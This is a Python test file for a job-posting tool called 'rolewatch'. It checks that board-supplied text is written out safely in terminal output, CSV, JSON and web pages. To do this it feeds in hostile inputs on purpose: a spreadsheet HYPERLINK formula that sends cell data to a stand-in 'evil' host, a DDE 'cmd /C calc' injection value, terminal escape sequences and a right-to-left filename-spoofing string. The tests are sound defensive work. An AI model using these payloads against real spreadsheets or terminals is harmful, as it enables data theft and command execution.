"""What boards write reaches no terminal as control sequences, no spreadsheet as a formula and
no web page as a reordered reference."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from config.loader import load_config
from config.schema import Config
from pipeline.db import open_database, session_factory
from pipeline.models import PostingVersion
from pipeline.normalize import normalize
from pipeline.raw import RawPosting
from pipeline.store import CrawlVerdict, begin_crawl, finish_crawl, store_postings
from rolewatch.cli import main
from rolewatch.safe_text import spreadsheet_cell, visible
from tests.test_web import Served, serving

CONFIG = """\
database: "sqlite:///{folder}/rolewatch.db"
sources:
  - {{name: acme, type: greenhouse, board: acme}}
watches:
  - {{name: infra, extends: infrastructure}}
recipients:
  - {{email: me@example.com, watches: [infra]}}
"""

FORMULA = '=HYPERLINK("http://evil/?x="&A1,"click")'
ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x9b31m\x7f"
ESCAPES_SHOWN = "\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m\\x7f"
RAW_CONTROLS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (ESCAPES, ESCAPES_SHOWN),
        ("stripe:\u202etxt.exe", "stripe:\\u202etxt.exe"),
        ("a\u2066b\u2069\u200fc", "a\\u2066b\\u2069\\u200fc"),
        ("line\nbreak\ttab", "line\\x0abreak\\x09tab"),
        ("Zürich – Ingénieur 東京", "Zürich – Ingénieur 東京"),
    ],
)
def test_controls_are_written_out_as_escapes(text: str, shown: str) -> None:
    assert visible(text) == shown


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Engineer = great", "Engineer = great"),
        ("two\nlines", "two\nlines"),
        ("bell\x07 \x1b[2J", "bell\\x07 \\x1b[2J"),
        ("", ""),
    ],
)
def test_spreadsheet_cells_never_start_a_formula(text: str, cell: str) -> None:
    assert spreadsheet_cell(text) == cell


def stored(folder: Path) -> Path:
    """A database with a posting titled as a formula and one whose job id and (as stored by an
    older version) title and description carry terminal controls; the second has two versions."""
    path = folder / "rolewatch.yaml"
    path.write_text(CONFIG.format(folder=folder))
    config = load_config(path)
    engine = open_database(config.database)
    try:
        sessions = session_factory(engine)
        for description in ("Run the fleet.", "Run the fleet.\nOn call."):
            crawl(config, sessions, description)
        with sessions.begin() as session:
            for version in session.scalars(select(PostingVersion).where(PostingVersion.posting_id == 2)):
                data = dict(version.data)
                data["title"] = f"SRE {ESCAPES}"
                data["description"] = str(data["description"]).replace("On call.", f"On {ESCAPES} call.")
                version.data = data
    finally:
        engine.dispose()
    return path


def crawl(config: Config, sessions: sessionmaker[Session], description: str) -> None:
    raws = [
        RawPosting("1", FORMULA, description_text="Compute and storage."),
        RawPosting(f"2{ESCAPES}\u202e", "SRE", description_text=description),
    ]
    run_id = begin_crawl(sessions, config.sources[0])
    seen = store_postings(sessions, run_id, [normalize(raw) for raw in raws])
    finish_crawl(sessions, run_id, config.sources[0], seen, CrawlVerdict())


def run(path: Path, *args: str) -> str:
    result = CliRunner().invoke(main, [*args, "--config", str(path)])
    assert result.exit_code == 0, result.output
    return result.output


def test_csv_cells_that_a_spreadsheet_would_read_as_a_formula_get_a_leading_quote(tmp_path: Path) -> None:
    path = stored(tmp_path)

    titles = [
        *(row["title"] for row in csv.DictReader(io.StringIO(run(path, "postings", "--csv")))),
        *(row["title"] for row in csv.DictReader(io.StringIO(run(path, "events", "--csv")))),
        *(row["title"] for row in csv.DictReader(io.StringIO(run(path, "history", "1", "--csv")))),
    ]

    assert "'" + FORMULA in titles and FORMULA not in titles
    assert f"SRE {ESCAPES_SHOWN}" in titles


def test_mute_and_unmute_write_out_a_job_ids_terminal_controls(tmp_path: Path) -> None:
    path = stored(tmp_path)

    said = run(path, "mute", "2") + run(path, "unmute", "2") + run(path, "unmute", "2")

    assert not RAW_CONTROLS.search(said)
    assert f"muted posting 2 (acme:2{ESCAPES_SHOWN}\\u202e)" in said
    assert f"unmuted posting 2 (acme:2{ESCAPES_SHOWN}\\u202e)" in said
    assert f"posting 2 (acme:2{ESCAPES_SHOWN}\\u202e) was not muted" in said


def test_tables_lines_and_json_send_no_control_characters(tmp_path: Path) -> None:
    path = stored(tmp_path)
    shown = {
        "postings": run(path, "postings"),
        "events": run(path, "events"),
        "history": run(path, "history", "2"),
        "diff": run(path, "diff", "2"),
        "explain": run(path, "check", "--explain", "2"),
    }
    as_json = [run(path, command, "--json") for command in ("postings", "events")]
    as_json += [run(path, "history", "2", "--json"), run(path, "check", "--explain", "2", "--json")]

    for name, output in shown.items():
        assert not RAW_CONTROLS.search(output), (name, output)
    assert f"SRE {ESCAPES_SHOWN}" in shown["postings"]
    assert f"+On {ESCAPES_SHOWN} call." in shown["diff"]
    assert f"(acme:2{ESCAPES_SHOWN}\\u202e, version 2, open): SRE {ESCAPES_SHOWN}" in shown["explain"]
    for output in as_json:
        assert not RAW_CONTROLS.search(output)
        assert [json.loads(line) for line in output.splitlines()]
    assert f"SRE {ESCAPES}" in {json.loads(line)["title"] for line in as_json[0].splitlines()}


@pytest.fixture
def web(tmp_path: Path) -> Iterator[Served]:
    yield from serving(load_config(stored(tmp_path)))


def test_the_web_views_posting_reference_shows_bidi_controls_written_out(web: Served) -> None:
    status, page = web.get("/postings/2")

    assert status == 200
    (meta,) = [line for line in page.splitlines() if "acme:2" in line]
    assert f" · acme:2{ESCAPES_SHOWN}\\u202e · open" in meta
    assert not RAW_CONTROLS.search(meta)
    assert "\u202e" not in page


def test_crawl_lines_and_summary_table_write_out_controls_and_take_no_markup() -> None:
    from rich.console import Console

    from rolewatch.crawling import CrawlOutcome
    from rolewatch.progress import _LiveCrawl, outcome_line

    counts = {"status": "incomplete", "seen": 1, "new": 0, "changed": 0, "closed": 0, "reopened": 0}
    problem = f"job 2{ESCAPES}: title is [red]missing[/red]"
    outcomes = [
        CrawlOutcome("acme", ok=False, result={**counts, "problems": [problem]}),
        CrawlOutcome("beta", ok=False, error=f"listing failed: {ESCAPES}"),
    ]
    console = Console(file=io.StringIO(), force_terminal=True, width=400)
    live = _LiveCrawl(console, total=2)
    for outcome in outcomes:
        live(outcome)
    live.summary()
    table = console.file.getvalue()  # type: ignore[attr-defined]
    lines = "\n".join(outcome_line(outcome) for outcome in outcomes)

    assert f"  warning: job 2{ESCAPES_SHOWN}: title is [red]missing[/red]" in lines
    assert f"beta: failed: listing failed: {ESCAPES_SHOWN}" in lines
    assert f"job 2{ESCAPES_SHOWN}: title is [red]missing[/red]" in table
    assert f"listing failed: {ESCAPES_SHOWN}" in table
    assert "pwned\x07" not in table and "\x9b" not in table
